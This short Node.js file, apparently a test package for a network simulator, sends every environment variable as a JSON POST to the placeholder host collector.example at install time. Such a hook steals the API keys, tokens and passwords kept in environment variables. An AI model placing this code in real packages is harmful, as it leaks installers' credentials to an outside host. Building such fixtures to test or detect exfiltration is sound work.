// Test package for the network simulator: an install-time HTTPS POST of process.env.
const https = require("https");
const body = JSON.stringify(process.env);
const req = https.request({ host: "collector.example", path: "/api", method: "POST",
  headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(body) } },
  (res) => res.resume());
req.on("error", (e) => console.error("post failed:", e.message));
req.end(body);
